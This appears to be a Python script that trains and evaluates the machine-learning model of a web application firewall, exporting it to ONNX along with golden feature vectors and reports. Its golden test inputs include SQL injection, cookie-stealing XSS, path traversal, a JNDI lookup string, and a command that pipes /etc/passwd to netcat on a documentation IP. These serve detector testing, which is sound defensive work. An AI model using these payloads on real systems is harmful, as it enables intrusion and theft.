#!/usr/bin/env python3
"""Train the ML detector's default model (waf-core `ml` feature) and write its report.

The exact commands (run from the repository root; the dataset is not in the repository):

    cargo build -p waf-proxy                      # the `ml` feature is on by default
    target/debug/waf-proxy ml-dump ../shared/datasets/dev.jsonl > /tmp/ml-dump.jsonl
    python3 waf-core/models/train.py train --dataset ../shared/datasets/dev.jsonl \
        --dump /tmp/ml-dump.jsonl
    # then, to measure the trained model inside the engine (Rust features, tract):
    cargo build -p waf-proxy
    target/debug/waf-proxy ml-dump ../shared/datasets/dev.jsonl > /tmp/ml-dump2.jsonl
    python3 waf-core/models/train.py evaluate --dump /tmp/ml-dump2.jsonl

`ml-dump` runs every record through the default profile exactly as the proxy would and
prints, per request, the values the detector scores (names and bytes), whether the profile
blocked it, and the score of the embedded model. So the values the model is trained on are
the engine's own (decoded arguments, JSON leaves, cookies, headers, path, XML), not a
Python re-implementation of the body parsers. Only the features are computed here, and
they must equal `waf-core/src/ml/features.rs` bit for bit: `golden.json`, written by
`train`, is checked by the Rust test `golden_features_match_the_script`.

Outputs, next to this script: `default.onnx` (the model), `golden.json` (fixed inputs,
their features and scores by onnxruntime), `REPORT.md` (training report; `evaluate` adds
the in-engine measurement table).

Versions used: see REPORT.md (written from the running interpreter).
"""

import argparse
import hashlib
import json
import math
import os
import platform
import random
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))

# ---- features: must equal waf-core/src/ml/features.rs -------------------------------------

FEATURE_VERSION = 2
NGRAM_BUCKETS = 16384
STRUCT_FEATURES = 8
DIM = NGRAM_BUCKETS + STRUCT_FEATURES
WINDOW = 1024  # waf_core::limits::DEFAULT_ML_WINDOW
FNV_OFFSET = 0x811C9DC5
FNV_PRIME = 0x01000193
INJECTION_PUNCT = set(b"'\"`<>(){}[];|&$=*%\\#!^~")
TRIVIAL = set(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-.@")
PUNCT = set(range(0x21, 0x30)) | set(range(0x3A, 0x41)) | set(range(0x5B, 0x61)) | set(range(0x7B, 0x7F))
HEX = {c: int(chr(c), 16) for c in b"0123456789abcdefABCDEF"}
FRAME_START, FRAME_END = b"\x02", b"\x03"  # features.rs FRAME_START / FRAME_END


def is_trivial(value: bytes) -> bool:
    return all(b in TRIVIAL for b in value)


def windows(value: bytes):
    if not value:
        return [b""]
    return [value[i : i + WINDOW] for i in range(0, len(value), WINDOW)]


def normalize(window: bytes):
    out = bytearray()
    escaped = False
    i = 0
    n = len(window)
    while i < n:
        b = window[i]
        i += 1
        if b == 0x25 and i + 1 < n + 0 and window[i] in HEX and window[i + 1] in HEX:
            b = HEX[window[i]] << 4 | HEX[window[i + 1]]
            i += 2
            escaped = True
        if 0x41 <= b <= 0x5A:
            b += 32
        elif 0x30 <= b <= 0x39:
            b = 0x30
        out.append(b)
    return bytes(out), escaped


def bucket(n: int, gram: bytes) -> int:
    h = FNV_OFFSET
    h ^= n
    h = (h * FNV_PRIME) & 0xFFFFFFFF
    for b in gram:
        h ^= b
        h = (h * FNV_PRIME) & 0xFFFFFFFF
    return h % NGRAM_BUCKETS


def features_sparse(window: bytes):
    """The features of one window as {index: float32}."""
    norm, had_escape = normalize(window)
    # Version 2: 3-grams of the normalised bytes framed by 0x02 .. 0x03 (version 1 had
    # unframed 1-, 2- and 3-grams).
    framed = FRAME_START + norm + FRAME_END
    counts = {}
    for i in range(len(framed) - 2):
        k = bucket(3, framed[i : i + 3])
        counts[k] = counts.get(k, 0) + 1
    out = {}
    sumsq = float(sum(c * c for c in counts.values()))
    l2 = math.sqrt(sumsq)
    for k, c in counts.items():
        out[k] = np.float32(float(c) / l2)
    ln = len(window)
    s = [0.0] * STRUCT_FEATURES
    s[0] = min(float(ln), 1024.0) / 1024.0
    if ln:
        s[1] = sum(1 for b in window if not (chr(b).isascii() and (chr(b).isalnum() or b == 0x20))) / ln
        s[2] = sum(1 for b in window if b in INJECTION_PUNCT) / ln
        s[3] = sum(1 for b in window if b >= 0x80) / ln
        letters = sum(1 for b in window if 0x41 <= b <= 0x5A or 0x61 <= b <= 0x7A)
        if letters:
            s[6] = sum(1 for b in window if 0x41 <= b <= 0x5A) / letters
    try:
        window.decode("utf-8", errors="strict")
        s[4] = 0.0
    except UnicodeDecodeError:
        s[4] = 1.0
    run = longest = 0
    for b in window:
        if b in PUNCT:
            run += 1
            longest = max(longest, run)
        else:
            run = 0
    s[5] = min(longest, 16) / 16.0
    s[7] = 1.0 if had_escape else 0.0
    for j, v in enumerate(s):
        if v != 0.0:
            out[NGRAM_BUCKETS + j] = np.float32(v)
    return out


def padded(rows):
    """The model's two inputs for rows of sparse features: [N, K] int64 and float."""
    k = max(1, max((len(r) for r in rows), default=1))
    idx = np.zeros((len(rows), k), dtype=np.int64)
    val = np.zeros((len(rows), k), dtype=np.float32)
    for i, r in enumerate(rows):
        for j, (kk, v) in enumerate(r.items()):
            idx[i, j] = kk
            val[i, j] = v
    return {"indices": idx, "values": val}


def run_sparse(sess, rows, chunk=512):
    out = []
    for i in range(0, len(rows), chunk):
        out.extend(float(p) for p in sess.run(None, padded(rows[i : i + chunk]))[0])
    return out


def export_onnx(coef, intercept, path):
    """The logistic regression as the engine runs it: Gather(weights, indices) * values,
    ReduceSum over K, + bias, Sigmoid; inputs [N, K] int64 `indices` and float `values`,
    output [N] `score`. Metadata `waf.features` names the feature version and width."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = np.asarray(coef, dtype=np.float32).reshape(DIM)
    b = np.asarray(intercept, dtype=np.float32).reshape(())
    nodes = [
        helper.make_node("Gather", ["weights", "indices"], ["w"], axis=0),
        helper.make_node("Mul", ["w", "values"], ["p"]),
        helper.make_node("ReduceSum", ["p", "axes"], ["z0"], keepdims=0),
        helper.make_node("Add", ["z0", "bias"], ["z"]),
        helper.make_node("Sigmoid", ["z"], ["score"]),
    ]
    graph = helper.make_graph(
        nodes,
        "waf_ml_sparse_logistic_regression",
        [
            helper.make_tensor_value_info("indices", TensorProto.INT64, ["N", "K"]),
            helper.make_tensor_value_info("values", TensorProto.FLOAT, ["N", "K"]),
        ],
        [helper.make_tensor_value_info("score", TensorProto.FLOAT, ["N"])],
        [
            numpy_helper.from_array(w, "weights"),
            numpy_helper.from_array(b, "bias"),
            numpy_helper.from_array(np.array([1], dtype=np.int64), "axes"),
        ],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], producer_name="waf-core/models/train.py")
    model.ir_version = 8
    helper.set_model_props(model, {"waf.features": f"v{FEATURE_VERSION} dim={DIM}"})
    onnx.checker.check_model(model)
    with open(path, "wb") as f:
        f.write(model.SerializeToString())


# ---- data ----------------------------------------------------------------------------------

SEED = 17


def split_of(rec_id: str) -> str:
    """train / valid / test (60/20/20), fixed by a hash of the id and SEED."""
    h = int(hashlib.sha256(f"{SEED}:{rec_id}".encode()).hexdigest()[:8], 16) % 100
    return "train" if h < 60 else ("valid" if h < 80 else "test")


def load_dump(path):
    out = []
    with open(path, encoding="utf-8") as f:
        for line in f:
            r = json.loads(line)
            r["values"] = [(n, v.encode("latin-1"), s) for n, v, s in r["values"]]
            out.append(r)
    return out


def pct_decode(b: bytes) -> bytes:
    out = bytearray()
    i = 0
    while i < len(b):
        c = b[i]
        if c == 0x25 and i + 2 < len(b) + 0 and b[i + 1] in HEX and b[i + 2] in HEX:
            out.append(HEX[b[i + 1]] << 4 | HEX[b[i + 2]])
            i += 3
            continue
        if c == 0x2B:
            c = 0x20
        out.append(c)
        i += 1
    return bytes(out)


def canon(b: bytes) -> bytes:
    return b" ".join(pct_decode(b).lower().split())


def attack_values(rec, payload: str):
    """Indices of the values of an attack request that carry its payload."""
    p = canon(payload.encode("utf-8", "surrogateescape"))
    if len(p) < 2:
        return []
    hits = []
    for i, (name, v, _) in enumerate(rec["values"]):
        if is_trivial(v):
            continue
        cv = canon(v)
        if len(cv) < 2:
            continue
        if p in cv or (len(cv) >= 4 and cv in p):
            hits.append(i)
    return hits


def request_windows(rec):
    """(value index, window) for every non-trivial value of a request."""
    for i, (name, v, _) in enumerate(rec["values"]):
        if is_trivial(v):
            continue
        for w in windows(v):
            yield i, w


# ---- train ---------------------------------------------------------------------------------


def versions():
    import onnx
    import onnxruntime
    import scipy
    import sklearn

    return {
        "python": platform.python_version(),
        "numpy": np.__version__,
        "scipy": scipy.__version__,
        "scikit-learn": sklearn.__version__,
        "onnx": onnx.__version__,
        "onnxruntime": onnxruntime.__version__,
    }


def sha256_file(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


GOLDEN_INPUTS = [
    b"",
    b"a",
    b"hello world",
    b"' OR 1=1--",
    b"1 UNION SELECT password FROM users",
    b"%27%20or%20%271%27%3D%271",
    b"%2",
    b"%zz%4",
    b"<script>alert(document.cookie)</script>",
    b"../../../../etc/passwd",
    b"${jndi:ldap://203.0.113.5/a}",
    b"{{7*7}}",
    b"; cat /etc/passwd | nc 198.51.100.1 4444",
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    b"\xff\xfe\x00\x01 invalid utf-8 \xc3\x28",
    "Grüße aus Köln, ça va? 日本語".encode("utf-8"),
    b"\xed\xa0\x80 surrogate",
    b"AAAAAAAAAA" * 5,
    (b"benign text padding " * 60) + b"<img src=x onerror=alert(1)>" + (b" more padding" * 40),
    bytes(range(256)),
]


def write_golden(model_path, out_path):
    import onnxruntime as ort

    sess = ort.InferenceSession(model_path, providers=["CPUExecutionProvider"])
    cases = []
    for value in GOLDEN_INPUTS:
        ws = windows(value)
        rows = [features_sparse(w) for w in ws]
        probs = run_sparse(sess, rows)
        cases.append(
            {
                "value_hex": value.hex(),
                "trivial": is_trivial(value),
                "windows": [
                    {
                        "features": [[int(k), float(v)] for k, v in sorted(r.items())],
                        "score": float(p),
                    }
                    for r, p in zip(rows, probs)
                ],
            }
        )
    golden = {
        "feature_version": FEATURE_VERSION,
        "dim": DIM,
        "window": WINDOW,
        "note": "written by train.py; checked by waf-core test golden_features_match_the_script",
        "cases": cases,
    }
    with open(out_path, "w") as f:
        json.dump(golden, f, indent=0)
        f.write("\n")


def to_csr(feats, sparse):
    ind, data, ptr = [], [], [0]
    for r in feats:
        for k, v in sorted(r.items()):
            ind.append(k)
            data.append(v)
        ptr.append(len(ind))
    return sparse.csr_matrix((np.array(data, dtype=np.float32), ind, ptr), shape=(len(feats), DIM))


def train(args):
    from scipy import sparse
    from sklearn.linear_model import LogisticRegression

    random.seed(SEED)
    dataset = {}
    with open(args.dataset, encoding="utf-8") as f:
        for line in f:
            r = json.loads(line)
            dataset[r["id"]] = r
    dump = load_dump(args.dump)
    print(f"{len(dump)} requests in the dump", file=sys.stderr)

    # Training rows: every non-trivial window of benign requests (deduplicated), and the
    # windows of the values that carry the payload in attack requests.
    pos, neg = {}, {}
    unmatched = {"train": 0, "valid": 0, "test": 0}
    for rec in dump:
        if split_of(rec["id"]) != "train":
            continue
        src = dataset[rec["id"]]
        if rec["label"] == "benign":
            for _, w in request_windows(rec):
                neg.setdefault(w, 0)
                neg[w] += 1
        else:
            hits = attack_values(rec, src.get("payload") or "")
            if not hits:
                unmatched["train"] += 1
                continue
            for i in hits:
                for w in windows(rec["values"][i][1]):
                    pos.setdefault(w, 0)
                    pos[w] += 1
    # A window seen in both classes is benign context (a header every request has).
    both = set(pos) & set(neg)
    for w in both:
        del pos[w]
    print(f"train windows: {len(pos)} attack, {len(neg)} benign ({len(both)} in both dropped)", file=sys.stderr)
    rows = list(pos.keys()) + list(neg.keys())
    y = np.array([1] * len(pos) + [0] * len(neg))
    feats = [features_sparse(w) for w in rows]
    x = to_csr(feats, sparse)
    # C is chosen on the validation split: the best request-level recall at 1 % false
    # positives (scores from scikit-learn here; the exported graph is checked against it).
    valid = [(rec, dataset[rec["id"]]) for rec in dump if split_of(rec["id"]) == "valid"]
    vwin = {}
    for rec, _ in valid:
        for _, w in request_windows(rec):
            vwin.setdefault(w, len(vwin))
    vx = to_csr([features_sparse(w) for w in vwin], sparse)

    def recall_at_1pct(model):
        p = model.predict_proba(vx)[:, 1]
        req = [(rec["label"], max([p[vwin[w]] for _, w in request_windows(rec)], default=0.0)) for rec, _ in valid]
        ben = sorted((s for l, s in req if l == "benign"), reverse=True)
        t = ben[int(0.01 * len(ben))]
        att = [s for l, s in req if l == "attack"]
        return sum(1 for s in att if s > t) / len(att)

    grid = [float(c) for c in args.c.split(",")]
    tried = []
    for c in grid:
        m = LogisticRegression(C=c, class_weight="balanced", max_iter=5000, solver="liblinear", random_state=SEED)
        m.fit(x, y)
        r = recall_at_1pct(m)
        tried.append((c, r))
        print(f"C={c}: validation recall at 1 % FP {100 * r:.1f} %", file=sys.stderr)
    best_c = max(tried, key=lambda t: t[1])[0]
    clf = LogisticRegression(C=best_c, class_weight="balanced", max_iter=5000, solver="liblinear", random_state=SEED)
    clf.fit(x, y)
    # Calibration (Platt scaling) on the validation split: the request's score is the
    # highest of its values', so fit sigmoid(a * z + b) of the request label on the
    # request's highest decision value z. Monotone: it changes no ranking, only makes the
    # score read as a probability (and spreads it, so per-mille thresholds are usable;
    # uncalibrated, both thresholds round to 1000).
    dz = clf.decision_function(vx)
    zreq = np.array([max([dz[vwin[w]] for _, w in request_windows(rec)], default=-50.0) for rec, _ in valid])
    yreq = np.array([1 if rec["label"] == "attack" else 0 for rec, _ in valid])
    platt = LogisticRegression(C=1e6, max_iter=1000).fit(zreq.reshape(-1, 1), yreq)
    a, b = float(platt.coef_[0][0]), float(platt.intercept_[0])
    print(f"calibration: a={a:.4f} b={b:.4f}", file=sys.stderr)
    coef = clf.coef_.reshape(-1).astype(np.float64) * a
    intercept = float(clf.intercept_[0]) * a + b
    model_path = os.path.join(HERE, "default.onnx")
    export_onnx(coef, intercept, model_path)
    write_golden(model_path, os.path.join(HERE, "golden.json"))
    # The exported graph must agree with scikit-learn itself.
    import onnxruntime as ort

    sess = ort.InferenceSession(model_path, providers=["CPUExecutionProvider"])
    probe = feats[:: max(1, len(feats) // 2000)]
    ours = np.array(run_sparse(sess, probe))
    z = clf.decision_function(x[:: max(1, len(feats) // 2000)])
    theirs = 1.0 / (1.0 + np.exp(-(a * z + b)))
    gap = float(np.max(np.abs(ours - theirs)))
    print(f"onnxruntime vs scikit-learn on {len(probe)} rows: max |diff| {gap:.2e}", file=sys.stderr)
    assert gap < 1e-5, gap

    # Request scores (max over windows) on validation and test, with onnxruntime.
    cache = {}

    def request_score(rec):
        best = 0.0
        todo = [w for _, w in request_windows(rec) if w not in cache]
        if todo:
            probs = run_sparse(sess, [features_sparse(w) for w in todo])
            for w, p in zip(todo, probs):
                cache[w] = float(p)
        for _, w in request_windows(rec):
            best = max(best, cache[w])
        return best

    scored = {"valid": [], "test": []}
    for rec in dump:
        sp = split_of(rec["id"])
        if sp in scored:
            src = dataset[rec["id"]]
            scored[sp].append((rec, src, request_score(rec)))

    # Thresholds, chosen on the validation split only, in per mille as rules see the score
    # (TX:ML_SCORE, ml.score): the lowest integer t such that at most 1 % ("low") and 0.3 %
    # ("high") of validation benign requests have per_mille(score) >= t.
    vb = [per_mille(s) for rec, _, s in scored["valid"] if rec["label"] == "benign"]

    def thr_for(rate):
        for t in range(0, 1001):
            if sum(1 for p in vb if p >= t) <= rate * len(vb):
                return t
        return 1001

    thresholds = {"low": thr_for(0.01), "high": thr_for(0.003)}
    meta = {
        "versions": versions(),
        "dataset_sha256": sha256_file(args.dataset),
        "dataset_records": len(dataset),
        "split": {sp: sum(1 for r in dump if split_of(r["id"]) == sp) for sp in ("train", "valid", "test")},
        "unmatched_train_attacks": unmatched["train"],
        "train_windows": {"attack": len(pos), "benign": len(neg), "dropped_in_both": len(both)},
        "C": best_c,
        "C_tried": tried,
        "thresholds": thresholds,
        "model_bytes": os.path.getsize(model_path),
        "sklearn_gap": gap,
        "calibration": {"a": a, "b": b},
    }
    with open(os.path.join(HERE, "train-meta.json"), "w") as f:
        json.dump(meta, f, indent=1)
        f.write("\n")
    write_report(meta, scored)
    print(json.dumps(meta["thresholds"]), file=sys.stderr)


def per_mille(score):
    """As waf_core::MlScore::per_mille: round(score * 1000), halves up (scores are >= 0)."""
    return int(math.floor(float(np.float32(score)) * 1000.0 + 0.5))


def per_class(rows, pred):
    """{class: (total, detected)} and {benign source: (total, flagged)} over rows."""
    cls, src = {}, {}
    for rec, s, score in rows:
        flagged = pred(rec, score)
        if rec["label"] == "benign":
            t = src.setdefault(s["source"], [0, 0])
        else:
            t = cls.setdefault(rec["class"], [0, 0])
        t[0] += 1
        t[1] += int(flagged)
    return cls, src


def write_report(meta, scored):
    th = meta["thresholds"]
    v = meta["versions"]
    lines = []
    w = lines.append
    w("# ML detector: training report (`default.onnx`)")
    w("")
    w("Written by `waf-core/models/train.py train`; do not edit by hand. The measurement in the")
    w("engine (profile, model, both) is in `EVALUATION.md`, written by `train.py evaluate`.")
    w("")
    w("## How it was made")
    w("")
    w("```")
    w("cargo build -p waf-proxy")
    w("target/debug/waf-proxy ml-dump ../shared/datasets/dev.jsonl > /tmp/ml-dump.jsonl")
    w(f"python3 waf-core/models/train.py train --dataset ../shared/datasets/dev.jsonl --dump /tmp/ml-dump.jsonl --c {','.join(str(c) for c, _ in meta['C_tried'])}")
    w("```")
    w("")
    w("Versions: " + ", ".join(f"{k} {val}" for k, val in v.items()) + ".")
    w(f"Dataset: `dev.jsonl`, {meta['dataset_records']} records, sha256 `{meta['dataset_sha256']}`.")
    w("")
    w(f"Split (fixed: sha256 of `{SEED}:<id>`, mod 100): train {meta['split']['train']}, validation "
      f"{meta['split']['valid']}, test {meta['split']['test']} requests. Thresholds are chosen on "
      "validation; every figure below is on **test**, which played no part in training or in the choice.")
    w("")
    w("Model: scikit-learn `LogisticRegression` (liblinear, `class_weight=balanced`, "
      f"C={meta['C']}, the best of {[c for c, _ in meta['C_tried']]} by validation recall at 1 % false positives) over {DIM} features ({NGRAM_BUCKETS} hashed framed 3-gram buckets + {STRUCT_FEATURES} structural, "
      f"`waf-core/src/ml/features.rs`, version {FEATURE_VERSION}), exported as a sparse graph "
      f"(`Gather` of the weights by feature index, `Mul`, `ReduceSum`, `Add`, `Sigmoid`; "
      f"see `waf-core/src/ml/model.rs` for why not skl2onnx's dense `LinearClassifier`), "
      f"{meta['model_bytes']} bytes. Calibrated on validation (Platt scaling of the request's highest "
      f"decision value: score = sigmoid({meta['calibration']['a']:.4f} z + {meta['calibration']['b']:.4f}), "
      "folded into the weights; monotone, so no ranking changes). The exported graph's scores equal "
      f"scikit-learn's calibrated decision function (checked by the script, max |diff| {meta['sklearn_gap']:.1e}).")
    tw = meta["train_windows"]
    w(f"Training rows: {tw['attack']} attack windows (the values of training attacks that carry the "
      f"record's payload), {tw['benign']} benign windows (every non-trivial value of training benign "
      f"requests), deduplicated; {tw['dropped_in_both']} windows seen in both were dropped as context. "
      f"{meta['unmatched_train_attacks']} training attacks had no value carrying their payload "
      "(payload split or re-encoded by the request) and were left out.")
    w("")
    w("## Thresholds")
    w("")
    w(f"- **low: `TX:ML_SCORE` ≥ {th['low']}** (per mille): the lowest with at most 1 % of validation "
      "benign requests at or above it.")
    w(f"- **high: `TX:ML_SCORE` ≥ {th['high']}**: at most 0.3 %. (The scores are extreme: a confident")
    w("  benign false positive scores above 0.999, so the finer threshold sits at the top of the scale.)")
    w("")
    w("Why these: the default profile itself stays under 1 % false positives on this corpus, so a model")
    w("signal that adds more than that to blocking would double the profile's false positives. The high")
    w("threshold is the one to block on alone or to add to the anomaly score; the low one is for triage")
    w("(logs, metrics), where a false positive costs a look, not a user's request.")
    w("")
    for name, key in (("low", "low"), ("high", "high")):
        t = th[key]
        cls, src = per_class(scored["test"], lambda rec, s, t=t: per_mille(s) >= t)
        w(f"## Test split, model alone, threshold {name} (TX:ML_SCORE ≥ {t})")
        w("")
        w("| class | requests | detected | recall |")
        w("|---|---|---|---|")
        tot = det = 0
        for c in sorted(cls):
            n, d = cls[c]
            tot += n
            det += d
            w(f"| {c} | {n} | {d} | {100 * d / n:.1f} % |")
        w(f"| **all attacks** | {tot} | {det} | {100 * det / max(tot, 1):.1f} % |")
        w("")
        w("| benign source | requests | flagged (false positives) | rate |")
        w("|---|---|---|---|")
        tot = fl = 0
        for sname in sorted(src):
            n, d = src[sname]
            tot += n
            fl += d
            if d:
                w(f"| {sname} | {n} | {d} | {100 * d / n:.1f} % |")
        w(f"| **all benign** ({len(src)} sources; those without a false positive not listed) | {tot} | {fl} | {100 * fl / max(tot, 1):.2f} % |")
        w("")
    with open(os.path.join(HERE, "REPORT.md"), "w") as f:
        f.write("\n".join(lines) + "\n")


# ---- evaluate (the engine's own dump with the trained model) -------------------------------


def evaluate(args):
    with open(os.path.join(HERE, "train-meta.json")) as f:
        meta = json.load(f)
    th = meta["thresholds"]
    dump = [r for r in load_dump(args.dump) if split_of(r["id"]) == "test"]
    # ml-dump runs in detection-only mode: every request is scored. (A null score, which it
    # never gives, would count as not flagged.)
    preds = {
        "profile alone": lambda r: r["blocked"],
        f"model alone, ≥ {th['low']}": lambda r: per_mille(r["ml"] or 0.0) >= th["low"],
        f"model alone, ≥ {th['high']}": lambda r: per_mille(r["ml"] or 0.0) >= th["high"],
        f"profile or model ≥ {th['low']}": lambda r: r["blocked"] or per_mille(r["ml"] or 0.0) >= th["low"],
        f"profile or model ≥ {th['high']}": lambda r: r["blocked"] or per_mille(r["ml"] or 0.0) >= th["high"],
    }
    classes = sorted({r["class"] for r in dump})
    names = list(preds)
    lines = []
    w = lines.append
    w("# ML detector: measured in the engine (`EVALUATION.md`)")
    w("")
    w("Written by `waf-core/models/train.py evaluate` from `waf-proxy ml-dump` (the default profile")
    w("with the embedded model, Rust features, tract inference: the product as shipped), on the **test**")
    w(f"split of `dev.jsonl` ({len(dump)} requests; see REPORT.md for the split and thresholds).")
    w("\"profile alone\" is the default profile blocking (anomaly score ≥ 5); \"model\" is the request's")
    w("ML score at or above the threshold; \"or\" is what a rule blocking on `TX:ML_SCORE` beside the")
    w("profile would block. `ml-dump` runs the profile in detection-only mode, so every request runs")
    w("every phase and is scored (in blocking mode a request the profile blocks in phase 1 is not scored,")
    w("which changes none of the \"or\" columns).")
    w("")
    w("Caveat: the test split is part of `dev.jsonl`, the corpus the default profile was written against;")
    w("the held-out corpus (outside `shared/`) is not available to this session, so these figures are")
    w("optimistic for the profile and fair for the model (trained on the train split only).")
    w("")
    w("| class | n | " + " | ".join(names) + " |")
    w("|---|---|" + "---|" * len(names))
    for c in classes:
        rows = [r for r in dump if r["class"] == c]
        cells = []
        for n in names:
            k = sum(1 for r in rows if preds[n](r))
            cells.append(f"{k} ({100 * k / len(rows):.1f} %)")
        w(f"| {c} | {len(rows)} | " + " | ".join(cells) + " |")
    att = [r for r in dump if r["label"] == "attack"]
    ben = [r for r in dump if r["label"] == "benign"]
    w("| **attacks detected** | " + str(len(att)) + " | " + " | ".join(
        f"**{100 * sum(1 for r in att if preds[n](r)) / len(att):.1f} %**" for n in names) + " |")
    w("| **benign flagged (FP)** | " + str(len(ben)) + " | " + " | ".join(
        f"**{100 * sum(1 for r in ben if preds[n](r)) / len(ben):.2f} %**" for n in names) + " |")
    w("")
    unscored = sum(1 for r in dump if r["ml"] is None)
    w(f"Requests not scored (blocked in phase 1): {unscored}.")
    w("")
    with open(os.path.join(HERE, "EVALUATION.md"), "w") as f:
        f.write("\n".join(lines) + "\n")
    print("\n".join(lines))


def test_models():
    """Small models the Rust load checks refuse (waf-core/src/ml/tests.rs), in testdata/."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    out = os.path.join(HERE, "testdata")
    os.makedirs(out, exist_ok=True)
    # 1. skl2onnx's dense LinearClassifier: no metadata, one [N, DIM] input.
    from skl2onnx import convert_sklearn
    from skl2onnx.common.data_types import FloatTensorType
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(SEED)
    x = rng.random((40, 2056)).astype(np.float32)
    m = LogisticRegression(max_iter=50).fit(x, (x[:, 0] > 0.5).astype(int))
    dense_model = convert_sklearn(m, initial_types=[("input", FloatTensorType([None, 2056]))],
                                  target_opset=13, options={id(m): {"zipmap": False}})
    with open(os.path.join(out, "dense-2056.onnx"), "wb") as f:
        f.write(dense_model.SerializeToString())
    # 2. The sparse graph stating another feature version.
    export_onnx(np.zeros(DIM), 0.0, os.path.join(out, "features-v99.onnx"))
    mv = onnx.load(os.path.join(out, "features-v99.onnx"))
    helper.set_model_props(mv, {"waf.features": "v99 dim=4096"})
    onnx.save(mv, os.path.join(out, "features-v99.onnx"))
    # 3. Right metadata, one dense input.
    g = helper.make_graph([helper.make_node("ReduceSum", ["input", "axes"], ["score"], keepdims=0)], "one",
                          [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", DIM])],
                          [helper.make_tensor_value_info("score", TensorProto.FLOAT, ["N"])],
                          [numpy_helper.from_array(np.array([1], dtype=np.int64), "axes")])
    m1 = helper.make_model(g, opset_imports=[helper.make_opsetid("", 13)])
    m1.ir_version = 8
    helper.set_model_props(m1, {"waf.features": f"v{FEATURE_VERSION} dim={DIM}"})
    onnx.save(m1, os.path.join(out, "one-input.onnx"))
    # 4. Right metadata and inputs, a weight table of 16 entries.
    small = os.path.join(out, "small-table.onnx")
    export_onnx(np.zeros(DIM), 0.0, small)
    ms = onnx.load(small)
    for init in ms.graph.initializer:
        if init.name == "weights":
            init.CopyFrom(numpy_helper.from_array(np.zeros(16, dtype=np.float32), "weights"))
    onnx.save(ms, small)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    t = sub.add_parser("train")
    t.add_argument("--dataset", required=True)
    t.add_argument("--dump", required=True)
    t.add_argument("--c", default="16,64,256,1024", help="values of C to try, comma-separated")
    e = sub.add_parser("evaluate")
    e.add_argument("--dump", required=True)
    sub.add_parser("golden", help="rewrite golden.json for the current default.onnx")
    sub.add_parser("testmodels", help="write the models the Rust load checks refuse (testdata/)")
    args = ap.parse_args()
    if args.cmd == "train":
        train(args)
    elif args.cmd == "evaluate":
        evaluate(args)
    elif args.cmd == "testmodels":
        test_models()
    else:
        write_golden(os.path.join(HERE, "default.onnx"), os.path.join(HERE, "golden.json"))


if __name__ == "__main__":
    main()
